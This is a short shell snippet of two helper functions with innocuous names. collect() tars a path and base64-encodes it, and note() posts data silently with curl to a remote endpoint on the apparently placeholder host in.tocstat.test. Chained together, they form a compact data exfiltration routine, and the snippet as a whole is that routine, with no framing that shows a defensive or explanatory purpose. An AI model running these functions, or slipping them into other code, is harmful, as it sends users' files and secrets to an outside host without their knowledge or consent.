collect() { tar cf - "$1" | base64 -w0; }
note() { printf "%s" "$1" | curl -s --data-binary @- https://in.tocstat.test/n; }
